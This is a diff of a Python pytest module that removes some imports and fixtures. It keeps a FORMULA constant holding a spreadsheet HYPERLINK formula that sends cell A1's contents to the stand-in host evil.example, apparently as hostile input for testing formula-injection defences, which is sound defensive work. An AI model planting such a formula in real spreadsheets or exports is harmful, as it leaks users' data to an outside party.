@@ -8,33 +8,17 @@ import io
 
 import httpx
 import pytest
-from backends import Backend, make_settings
 from factories import (
     TestUser,
-    daytime_clock,
     new_team,
     new_user,
     update_team_settings,
     update_user_settings,
 )
-from providers import Providers
 
 from db.models import Contact
-from server.config import Settings
-from server.context import AppContext
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
-
-
-@pytest.fixture
-def settings(backend: Backend, providers: Providers) -> Settings:
-    return make_settings(backend, **providers.settings())
-
-
-@pytest.fixture
-def ctx(app) -> AppContext:
-    daytime_clock(app.state.ctx)
-    return app.state.ctx
 
 
 async def propose(client: httpx.AsyncClient, user: TestUser, tool: str, args: dict[str, str]) -> str:
